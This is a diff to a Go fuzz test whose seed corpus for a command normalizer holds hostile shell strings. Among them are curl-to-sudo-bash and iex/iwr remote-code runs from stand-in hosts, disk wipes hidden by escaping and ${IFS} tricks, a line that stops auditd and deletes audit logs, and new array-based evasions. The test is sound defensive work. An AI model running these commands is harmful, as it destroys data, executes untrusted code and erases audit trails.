@@ -14,6 +14,7 @@ func FuzzNormalize(f *testing.F) {
 		"curl -s https://x.sh | sudo bash", `del /s /q C:\Windows`, "iex (iwr http://x)",
 		"powershell -enc " + psEncode("Remove-Item -Recurse C:\\"), "bash <<EOF\nid\nEOF",
 		"$'\\x72\\x6d' -rf /", "{rm,-rf,/}", "rm${IFS}-rf${IFS}/",
+		"S=(gsu til); ${S[0]}${S[1]} ${S[@]} ${S[9]} ${S[x]}", "A=(a b); A=(c); ${A[0]}$(printf %s r m)",
 		"ssh -p 22 ops@h 'sudo systemctl stop auditd && ssh h2 \"rm -rf /var/log/audit\"'",
 	} {
 		f.Add(s)
